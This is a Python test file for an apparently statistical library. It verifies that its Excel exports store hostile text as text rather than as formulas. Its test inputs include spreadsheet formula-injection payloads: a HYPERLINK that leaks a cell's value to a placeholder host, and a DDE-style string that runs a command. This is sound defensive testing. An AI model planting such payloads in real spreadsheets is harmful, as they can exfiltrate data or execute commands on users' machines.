"""Workbooks cannot carry formulas (issue 21, item 3): every text cell the robustness table's
workbook holds (term names, specification and estimator labels, notes, the long sheet's text)
is stored as text, for names starting with =, +, -, @, tab or carriage return; the app's memo
workbook (the same writer, fed from the session store) too. Checked by reading the workbook back
with openpyxl."""

from __future__ import annotations

import io
import json

import numpy as np
import openpyxl
import pandas as pd
import pytest

import lagwise
from lagwise.app import studies
from lagwise.app.state import STORE

HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_control_characters_are_replaced_not_an_untyped_error():
    fit = hostile_fit(["a\x0cb", "c\x01"])
    buf = io.BytesIO()
    lagwise.robustness_table(fit, "hc1").to_excel(buf)
    values = {c.value for _, c in cells(buf.getvalue()) if isinstance(c.value, str)}
    assert "a\ufffdb" in values and "c\ufffd" in values


def hostile_fit(names=HOSTILE):
    rng = np.random.default_rng(3)
    n = 80
    frame = pd.DataFrame({name: rng.normal(size=n) for name in names})
    frame["=1+ret"] = frame.sum(axis=1) + rng.normal(size=n)
    return lagwise.fit_ols(frame, "=1+ret", list(names))


def cells(raw: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    return [(ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def assert_all_text(raw: bytes, expected_texts):
    found = cells(raw)
    formulas = [(title, c.coordinate, c.value) for title, c in found if c.data_type == "f"]
    assert not formulas, formulas
    # XML stores a carriage return as a line feed: compare with that normalisation
    values = {c.value.replace("\r", "\n") for _, c in found if isinstance(c.value, str)}
    for text in expected_texts:
        assert text.replace("\r", "\n") in values, (text, sorted(values)[:20])


@pytest.mark.parametrize("show", ["se", "t", "p", "ci"])
def test_robustness_workbook_stores_every_text_as_text(show):
    fit = hostile_fit()
    table = lagwise.robustness_table({HOSTILE[0]: fit, HOSTILE[3]: fit},
                                     {HOSTILE[1]: lagwise.estimator("hc1"),
                                      HOSTILE[2]: lagwise.estimator("kernel", bandwidth=4.0)},
                                     show=show)
    buf = io.BytesIO()
    table.to_excel(buf)
    assert_all_text(buf.getvalue(), HOSTILE[:4] + HOSTILE[4:])
    # the numbers stay numbers
    numeric = [c for _, c in cells(buf.getvalue()) if c.data_type == "n"]
    assert len(numeric) >= 2 * len(fit.terms)


def test_app_memo_workbook_stores_every_text_as_text():
    fit = hostile_fit()
    session = STORE.open_session()
    STORE.put(session, "fit:hostile", fit)
    specs = [{"key": "fit:hostile", "label": HOSTILE[0]}]
    ests = [json.dumps(lagwise.estimator("hc1").settings())]
    table = studies.memo_table(session, specs, ests, "std_error", 0.95)
    buf = io.BytesIO()
    table.to_excel(buf)
    assert_all_text(buf.getvalue(), HOSTILE)
